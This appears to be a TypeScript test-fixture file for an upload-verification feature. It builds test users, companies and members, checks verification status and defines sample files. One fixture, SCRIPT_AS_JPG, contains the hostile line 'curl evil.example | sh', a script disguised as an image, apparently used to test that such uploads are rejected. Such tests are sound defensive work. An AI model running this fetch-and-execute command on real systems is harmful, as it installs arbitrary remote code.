import type { Db } from "#server/db/connect.ts";
import type { Role, TeamRole } from "#server/db/schema/account-tables.ts";
import type { Actor } from "#server/modules/accounts/index.ts";

/** Small builders for the verification tests (users, companies, members, files). */
let serial = 0;

export const PDF = Buffer.from(
  "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
);
export const SCRIPT_AS_JPG = Buffer.from("#!/bin/sh\ncurl evil.example | sh\n");

export async function user(db: Db, roles: Role[] = ["supplier"], lang = "en"): Promise<Actor> {
  serial += 1;
  const row = await db
    .insertInto("users")
    .values({
      email: `v${serial}@evidence.test`,
      password_hash: "x",
      first_name: "V",
      last_name: `${serial}`,
      preferred_lang: lang,
    })
    .returning("id")
    .executeTakeFirstOrThrow();
  if (roles.length)
    await db
      .insertInto("user_roles")
      .values(roles.map((role) => ({ user_id: row.id, role })))
      .execute();
  return { id: row.id, roles };
}

export async function company(db: Db, name = "Evidence Co"): Promise<number> {
  const row = await db
    .insertInto("companies")
    .values({ name, country: "TR" })
    .returning("id")
    .executeTakeFirstOrThrow();
  return row.id;
}

export async function member(db: Db, companyId: number, role: TeamRole = "owner"): Promise<Actor> {
  const actor = await user(db);
  await db.insertInto("company_members").values({ company_id: companyId, user_id: actor.id, role }).execute();
  return actor;
}

export const isVerified = async (db: Db, companyId: number) =>
  Boolean(
    (
      await db
        .selectFrom("companies")
        .select("is_verified")
        .where("id", "=", companyId)
        .executeTakeFirstOrThrow()
    ).is_verified,
  );
